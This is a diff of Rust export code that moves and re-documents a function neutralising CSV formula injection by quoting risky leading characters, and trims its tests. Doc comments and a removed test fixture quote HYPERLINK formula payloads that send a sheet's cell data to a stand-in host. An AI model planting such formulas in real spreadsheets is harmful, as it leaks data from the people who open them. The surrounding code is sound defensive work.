@@ -45,21 +45,9 @@ pub fn export(
     }
 }
 
-/// `value` made safe to open in a spreadsheet. A cell that begins with `=`, `+`, `-`, `@`, a
-/// tab or a carriage return is a formula to Excel, Calc and Sheets
-/// (`=HYPERLINK("http://…?leak="&A1, …)` sends the sheet's data away when clicked); such a
-/// cell gets a leading `'`, as OWASP advises against CSV injection, and is then read as text.
-/// Every other cell is returned as it is. Phone numbers included: `+1 888…` is a formula (or
-/// arithmetic) too, and as text it stays the number it is.
-pub fn spreadsheet_cell(value: &str) -> Cow<'_, str> {
-    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
-        Cow::Owned(format!("'{value}"))
-    } else {
-        Cow::Borrowed(value)
-    }
-}
-
-/// Writes one row of a spreadsheet, every cell through [`spreadsheet_cell`].
+/// Writes one row of a spreadsheet, every cell through [`spreadsheet_cell`]. Phone numbers
+/// too: `+1 888…` is a formula (or arithmetic) to a spreadsheet, and as text it stays the number
+/// it is; programs that want the bare number read the HSDS package.
 fn write_row<'a, W: std::io::Write>(
     writer: &mut csv::Writer<W>,
     cells: impl IntoIterator<Item = &'a str>,
@@ -210,45 +198,30 @@ fn write_spreadsheets(catalog: &Catalog, dir: &Path) -> std::io::Result<Vec<Path
     Ok(vec![resources_path, organizations_path])
 }
 
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn cells_that_a_spreadsheet_would_run_are_text() {
-        for (cell, safe) in [
-            (
-                "=HYPERLINK(\"http://x.test/?\"&A1)",
-                "'=HYPERLINK(\"http://x.test/?\"&A1)",
-            ),
-            ("+1 888-373-7888", "'+1 888-373-7888"),
-            ("-2+3", "'-2+3"),
-            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
-            ("\t=1+1", "'\t=1+1"),
-            ("\r=1+1", "'\r=1+1"),
-        ] {
-            assert_eq!(spreadsheet_cell(cell), safe, "{cell:?}");
-            assert!(matches!(spreadsheet_cell(cell), Cow::Owned(_)));
-        }
+/// A cell for a spreadsheet, made inert: text beginning with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return is a formula to Excel, Calc and Sheets (`=HYPERLINK("http://…?leak="&A1)`),
+/// so it gets a leading `'`, as OWASP recommends, and is shown as the text it is. Only the
+/// exports meant for spreadsheets use this; the HSDS package's CSVs are data interchange and
+/// stay byte-exact.
+pub fn spreadsheet_cell(value: &str) -> Cow<'_, str> {
+    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        Cow::Owned(format!("'{value}"))
+    } else {
+        Cow::Borrowed(value)
     }
+}
+
+#[cfg(test)]
+mod spreadsheet_tests {
+    use super::spreadsheet_cell;
 
     #[test]
-    fn other_cells_are_untouched_and_not_copied() {
-        for cell in [
-            "",
-            "National Human Trafficking Hotline",
-            "888-373-7888",
-            "(518) 465-7551 (voice)",
-            " =1+1",
-            "a=b",
-            "'quoted",
-            "＝1+1",
-            "\n=1+1",
-        ] {
-            assert!(
-                matches!(spreadsheet_cell(cell), Cow::Borrowed(c) if c == cell),
-                "{cell:?}"
-            );
+    fn cells_that_a_spreadsheet_would_run_are_shown_as_text() {
+        for formula in ["=1+1", "+1 888", "-2", "@SUM(A1)", "\tx", "\rx"] {
+            assert_eq!(spreadsheet_cell(formula), format!("'{formula}"));
+        }
+        for text in ["Hotline", "", " =1", "1-888", "'quoted"] {
+            assert_eq!(spreadsheet_cell(text), text);
         }
     }
 }
